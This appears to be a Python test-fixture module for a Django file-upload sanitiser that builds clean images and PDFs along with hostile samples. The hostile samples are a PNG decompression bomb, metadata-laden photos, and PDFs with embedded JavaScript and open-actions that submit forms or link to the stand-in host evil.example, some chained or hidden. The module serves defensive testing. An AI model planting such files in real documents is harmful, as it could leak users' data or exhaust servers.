"""Files to try: good ones of every sort, and nasty ones, all made here."""

import struct
import zlib
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from django.core.files.base import ContentFile
from PIL import Image, ImageCms, PngImagePlugin

SECRET = b"SECRET-4711"  # stands wherever a file may hide something


def upload(data: bytes, name: str = "file") -> ContentFile:
    """A file as somebody sends it."""
    return ContentFile(data, name)


# --- Pictures -----------------------------------------------------------------------


def picture(mode: str = "RGB", size: tuple[int, int] = (48, 32)) -> Image.Image:
    """A picture of which no part is like another."""
    ramp = Image.linear_gradient("L").resize(size)
    across = Image.linear_gradient("L").rotate(90).resize(size)
    if mode == "L":
        return ramp
    if mode == "CMYK":
        return Image.merge(
            "CMYK", [ramp, across, ramp.rotate(180), Image.new("L", size)]
        )
    picture = Image.merge("RGB", [ramp, across, ramp.rotate(180)])
    if mode == "RGBA":
        picture.putalpha(across)
    return picture.convert(mode) if mode != "RGB" else picture


@cache
def profile() -> bytes:
    """A colour profile."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def exif(orientation: int = 6) -> bytes:
    """What a phone says of a photo: where, when, with what."""
    data = Image.Exif()
    data[0x0112] = orientation
    data[0x010F] = SECRET.decode()
    data[0x0110] = SECRET.decode()
    gps = data.get_ifd(0x8825)
    gps[1], gps[2] = "N", (40.0, 6.0, 38.0)
    data.get_ifd(0x8769)[0xA431] = SECRET.decode()
    return data.tobytes()


def jpeg(mode: str = "RGB", size: tuple[int, int] = (48, 32), **options: Any) -> bytes:
    """A plain JPEG."""
    data = BytesIO()
    picture(mode, size).save(data, "JPEG", **options)
    return data.getvalue()


def png(mode: str = "RGB", size: tuple[int, int] = (48, 32), **options: Any) -> bytes:
    """A plain PNG."""
    data = BytesIO()
    picture(mode, size).save(data, "PNG", **options)
    return data.getvalue()


def image(format_: str, **options: Any) -> bytes:
    """A picture in any format that Pillow writes."""
    data = BytesIO()
    picture().save(data, format_, **options)
    return data.getvalue()


def segment(marker: int, payload: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def with_segments(data: bytes, *segments: bytes) -> bytes:
    """A JPEG with more segments at its beginning."""
    return data[:2] + b"".join(segments) + data[2:]


def talkative_jpeg() -> bytes:
    """A photo as a phone writes it, with everything that it tells."""
    data = jpeg(exif=exif(), icc_profile=profile(), comment=SECRET)
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + SECRET
    return with_segments(
        data,
        segment(0xE1, xmp),
        segment(0xE2, b"MPF\0" + SECRET),
        segment(0xE2, b"urn:iso:std:iso:ts:21496:-1\0" + SECRET),
        segment(0xED, b"Photoshop 3.0\0" + SECRET),
        segment(0xEB, SECRET),
    )


def chunk(name: bytes, payload: bytes) -> bytes:
    """A chunk of a PNG."""
    checksum = struct.pack(">I", zlib.crc32(name + payload))
    return struct.pack(">I", len(payload)) + name + payload + checksum


def with_chunks(data: bytes, *chunks: bytes) -> bytes:
    """A PNG with more chunks after its header."""
    return data[:33] + b"".join(chunks) + data[33:]


def talkative_png() -> bytes:
    """A PNG with everything that it may tell."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", SECRET.decode())
    text.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    text.add_text("Comment", SECRET.decode(), zip=False)
    data = png("RGBA", exif=exif(), icc_profile=profile(), pnginfo=text, dpi=(300, 300))
    extra = [chunk(b"prVt", SECRET), chunk(b"tIME", b"\x07\xea\x01\x01\0\0\0")]
    return with_chunks(data, *extra)


def bomb(width: int = 13_000, height: int = 13_000) -> bytes:
    """A small PNG of very many pixels, all of one colour."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    parts = chunk(b"IHDR", header), chunk(b"IDAT", data), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


# --- PDF ----------------------------------------------------------------------------


def pdf(change: Any = None, pages: int = 1, **options: Any) -> bytes:
    """A PDF; ``change`` does something to it before it is written."""
    data = BytesIO()
    with pikepdf.new() as document:
        for _number in range(pages):
            page = document.add_blank_page(page_size=(200, 200))
            page.obj.Contents = pikepdf.Stream(document, b"0 0 9 9 re f")
        if change:
            change(document)
        document.save(data, deterministic_id=not options.get("encryption"), **options)
    return data.getvalue()


def action(**entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        {
            f"/{key}": pikepdf.Name(f"/{value}") if key == "S" else value
            for key, value in entries.items()
        }
    )


def annotation(document: pikepdf.Pdf, subtype: str, **entries: Any) -> None:
    """Put an annotation on the first page."""
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{subtype}"), Rect=[0, 0, 9, 9]
    )
    for key, value in entries.items():
        note[f"/{key}"] = value
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(note)])


def set_root(**entries: Any) -> Any:
    """Return a change that puts something into a PDF's catalogue."""

    def change(document: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return change


def attach(document: pikepdf.Pdf) -> None:
    document.attachments["prices.xml"] = SECRET


def script_in_names(document: pikepdf.Pdf) -> None:
    script = action(S="JavaScript", JS="app.alert(1)")
    tree = pikepdf.Dictionary(Names=["x", document.make_indirect(script)])
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def acting_on_opening() -> list[Any]:
    """Changes that let a PDF do something when it, or a page of it, is opened."""
    acts = [
        {"S": "SubmitForm", "F": "https://evil.example/", "Flags": 4},
        {"S": "ImportData", "F": "data.fdf"},
        {"S": "GoToR", "F": "other.pdf", "D": [0]},
        {"S": "URI", "URI": "https://evil.example/"},
        {"S": "Thread", "F": "other.pdf", "D": 0},
    ]

    def chained(act: Any) -> Any:
        hidden = action(S="Hide", T="x", Next=action(**act))
        middle = action(S="Named", N="x", Next=[hidden])
        return action(S="GoTo", D=[0], Next=middle)

    def on_page(act: Any) -> Any:
        def change(document: pikepdf.Pdf) -> None:
            document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action(**act))

        return change

    def in_field(act: Any) -> Any:
        def change(document: pikepdf.Pdf) -> None:
            seen = document.make_indirect(pikepdf.Dictionary(PV=chained(act)))
            annotation(document, "Widget", FT=pikepdf.Name.Btn, AA=seen)

        return change

    def far(act: Any) -> Any:
        """Nothing stands where it is looked for but a number."""

        def change(document: pikepdf.Pdf) -> None:
            last = document.make_indirect(action(**act))
            first = document.make_indirect(action(S="GoTo", D=[0], Next=last))
            document.Root.OpenAction = document.make_indirect(first)

        return change

    def at_once(act: Any) -> Any:
        return lambda document: set_root(OpenAction=action(**act))(document)

    def later(act: Any) -> Any:
        return lambda document: set_root(OpenAction=chained(act))(document)

    def external(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.Contents["/F"] = "https://evil.example/page"

    ways = (at_once, later, on_page, in_field, far)
    return [*(way(act) for way in ways for act in acts), external]
